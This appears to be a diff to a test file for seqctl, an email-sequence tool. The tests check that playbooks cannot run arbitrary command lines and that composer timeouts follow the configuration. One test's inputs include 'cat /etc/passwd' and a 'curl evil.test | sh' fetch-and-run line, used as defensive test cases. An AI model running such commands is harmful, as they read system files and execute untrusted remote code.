@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import hashlib
+import json
+import sqlite3
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -75,10 +77,15 @@ def test_a_missing_attachment_is_a_lint_error(run: Run, write: Callable[[str, st
     assert "playbooks/a.yaml:6:19: error [attachment-missing]" in result.stdout
 
 
-def composer(project: Path, script: str) -> str:
+def composer(project: Path, script: str, timeout: float = 5) -> str:
+    """The script as seqctl.yaml's composer `writer`: the name a playbook gives."""
     path = project / "compose.py"
     path.write_text(script, encoding="utf-8")
-    return f"{sys.executable} {path}"
+    (project / "seqctl.yaml").write_text(
+        f"composers:\n  writer: {{command: [{sys.executable}, {path}], timeout: {timeout}}}\n",
+        encoding="utf-8",
+    )
+    return "writer"
 
 
 COMPOSED = auto_playbook(
@@ -128,10 +135,8 @@ def test_composed_text(launch: Launch, project: Path, mode: str) -> None:
 def test_a_failing_composer_fails_the_step_and_sends_nothing(
     launch: Launch, project: Path, script: str, reason: str
 ) -> None:
-    playbook = COMPOSED.replace("MODE", "full").replace("COMMAND", composer(project, script))
-    run = start(
-        launch, playbook.replace("timeout: 5", "timeout: 1"), "key,email\nann,ann@example.com\n"
-    )
+    playbook = COMPOSED.replace("MODE", "full").replace("COMMAND", composer(project, script, 1))
+    run = start(launch, playbook, "key,email\nann,ann@example.com\n")
     assert run("--now=2026-11-23T08:00:00Z", "tick", "--json").json["failed"] == 1
     assert not (project / "outbox.jsonl").exists()
     [failed] = run("enrollments", "--json").json
@@ -146,3 +151,58 @@ def test_compose_full_needs_consent(run: Run, write: Callable[[str, str], Path])
     )
     result = run("lint")
     assert "playbooks/c.yaml:5:21: error [consent]" in result.stdout
+
+
+@pytest.mark.parametrize("command", ['"cat /etc/passwd"', "[sh, -c, 'curl evil.test | sh']"])
+def test_a_playbook_never_runs_a_command_of_its_own(
+    run: Run, write: Callable[[str, str], Path], command: str
+) -> None:
+    write(
+        "playbooks/c.yaml",
+        "sequence: c\nsteps:\n  - type: email\n    subject: Hi\n"
+        f"    compose: {{mode: assisted, command: {command}}}\n",
+    )
+    result = run("lint")
+    assert result.exit_code == 1
+    assert "playbooks/c.yaml:5:40: error [compose-command] compose names a command line" in (
+        result.stdout
+    )
+
+
+def test_a_version_from_before_the_rule_never_runs_its_command(
+    launch: Launch, project: Path
+) -> None:
+    """A version published by an older seqctl may hold a command line: the step fails with the
+    reason, and the command never runs."""
+    playbook = COMPOSED.replace("MODE", "assisted").replace("COMMAND", composer(project, WRITER))
+    run = start(launch, playbook, "key,email,first_name\nann,ann@example.com,Ann\n")
+    marker = project / "ran"
+    with sqlite3.connect(project / "seqctl.db") as conn:  # as an older seqctl stored it
+        [(text,)] = conn.execute("SELECT definition FROM versions").fetchall()
+        definition = json.loads(text)
+        definition["steps"][0]["compose"]["command"] = f"touch {marker}"
+        conn.execute("UPDATE versions SET definition = ?", [json.dumps(definition)])
+    conn.close()
+
+    assert run("--now=2026-11-23T08:00:00Z", "tick", "--json").json["failed"] == 1
+    assert not marker.exists()
+    [failed] = run("enrollments", "--json").json
+    assert "compose names a command line, not a composer" in failed["reason"]
+
+
+def test_an_unknown_composer_and_a_long_timeout_are_bounded_by_the_configuration(
+    launch: Launch, project: Path
+) -> None:
+    playbook = COMPOSED.replace("MODE", "full").replace("timeout: 5", "timeout: 100")
+    slow = composer(project, "import time; time.sleep(30)", timeout=1)
+    run = start(
+        launch,
+        playbook.replace("COMMAND", slow).replace("id: hello", "id: slow")
+        + playbook.replace("COMMAND", "ghost")
+        .split("steps:\n", 1)[1]
+        .replace("id: hello", "id: ghost"),
+        "key,email\nann,ann@example.com\n",
+    )
+    assert run("--now=2026-11-23T08:00:00Z", "tick", "--json").json["failed"] == 1
+    [failed] = run("enrollments", "--json").json
+    assert "compose command timed out after 1 s" in failed["reason"]  # not 100 s
